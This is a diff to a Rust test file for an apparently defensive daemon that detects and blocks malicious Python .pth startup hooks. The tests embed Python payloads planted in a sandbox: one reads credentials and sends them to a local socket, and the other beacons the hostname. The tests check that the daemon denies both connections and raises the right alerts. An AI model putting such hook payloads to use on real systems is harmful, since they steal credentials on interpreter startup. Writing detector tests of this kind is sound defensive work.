@@ -42,8 +42,9 @@ fn marker(sb: &Sandbox) -> std::path::PathBuf {
 
 /// What a payload wrote to its marker, waiting up to `limit` for it.
 fn wait_marker(sb: &Sandbox, limit: Duration) -> Option<String> {
+    // The payload creates the file, then writes it: wait for the content.
     let path = marker(sb);
-    wait_until(limit, || path.exists());
+    wait_until(limit, || std::fs::metadata(&path).is_ok_and(|m| m.len() > 0));
     std::fs::read_to_string(path).ok()
 }
 
@@ -534,4 +535,97 @@ print(s.recv(100).split(b' ')[1].decode())
             "mode {mode}: the upload did not arrive"
         );
     });
+}
+
+// ---- per-rule modes ----
+
+/// `--mode alert` with rule 1 overridden to block: the kernel blocks the replica.
+#[test]
+fn a_per_rule_mode_overrides_the_global_mode() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("rulemode");
+    let sink = TcpSink::start();
+    let child = format!(
+        "{READ_CREDENTIALS}
+import socket
+try:
+    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
+    s.sendall(blob)
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+",
+        sink.port
+    );
+    let pth = sb.pth("rm_init.pth", &spawning_pth_line(&child));
+    let daemon = Daemon::start(
+        "alert",
+        &["--rule-mode", "hook_credential_exfiltration=block"],
+    );
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    let alert = exfil_alert(&daemon);
+    let alerts = daemon.stop();
+    assert_eq!(
+        done.as_deref(),
+        Some("error 1"),
+        "connect must fail with EPERM"
+    );
+    assert_eq!(sink.bytes(), 0);
+    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
+    assert_exfil_alert(&alert, &sb, &pth, sink.port, "blocked");
+}
+
+/// The strict policy: an unknown hook gets no network at all, credentials or not.
+#[test]
+fn unknown_hooks_can_be_denied_the_network_outright() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("quarantine");
+    let sink = TcpSink::start();
+    // Beacons home without touching any credential.
+    let child = format!(
+        "import os, socket, time
+time.sleep(0.5)
+try:
+    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
+    s.sendall(b'hello from ' + os.uname().nodename.encode())
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(os.path.expanduser('~'), 'payload.done'), 'w') as f:
+    f.write(r)
+",
+        sink.port
+    );
+    let pth = sb.pth("beacon.pth", &spawning_pth_line(&child));
+    let daemon = Daemon::start("alert", &["--rule-mode", "unknown_startup_hook=block"]);
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    let pth_path = real(&pth).to_string_lossy().into_owned();
+    let alert = daemon.wait_alert(Duration::from_secs(10), |a| {
+        a["rule"] == "unknown_startup_hook" && a["startup_hook"]["path"] == *pth_path
+    });
+    let alerts = daemon.stop();
+    assert_eq!(
+        done.as_deref(),
+        Some("error 1"),
+        "the beacon must be denied"
+    );
+    assert_eq!(sink.bytes(), 0);
+    let alert = alert.unwrap_or_else(|| panic!("no unknown-hook alert in {alerts:#?}"));
+    assert_eq!(alert["action"], "blocked", "{alert:#}");
+    assert!(
+        alerts
+            .iter()
+            .all(|a| a["rule"] != "hook_credential_exfiltration"),
+        "nothing was read, so nothing was exfiltrated: {alerts:#?}"
+    );
 }
